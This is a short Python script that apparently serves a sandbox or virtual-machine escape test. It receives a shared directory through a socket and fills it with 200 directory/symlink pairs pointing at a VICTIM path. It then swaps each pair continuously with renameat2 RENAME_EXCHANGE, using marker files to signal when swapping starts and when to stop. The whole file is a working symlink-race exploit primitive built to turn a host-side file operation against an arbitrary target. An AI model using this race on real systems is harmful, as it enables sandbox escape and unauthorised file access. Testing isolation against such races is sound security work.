#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""swap_folders.py VICTIM: outside of a machine, waits at the socket "hand-over" for a folder of the machine's memory,
and exchanges the folders in it for links to VICTIM and back, until there is a file "enough". Makes a file "swapping"
when it has begun."""
import ctypes
import os
import sys

from hand_over import receive

PAIRS = 200
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None)

(folder,) = receive(1)
pairs = []
for number in range(PAIRS):
    os.mkdir(f"d{number}", dir_fd=folder)
    os.symlink(sys.argv[1], f"l{number}", dir_fd=folder)
    pairs.append((f"d{number}".encode(), f"l{number}".encode()))
swaps = 0
while not os.path.exists("enough"):
    for one, other in pairs:
        swaps += libc.renameat2(folder, one, folder, other, RENAME_EXCHANGE) == 0
    if swaps >= PAIRS and not os.path.exists("swapping"):
        open("swapping", "w").close()
print(f"done {swaps}", flush=True)
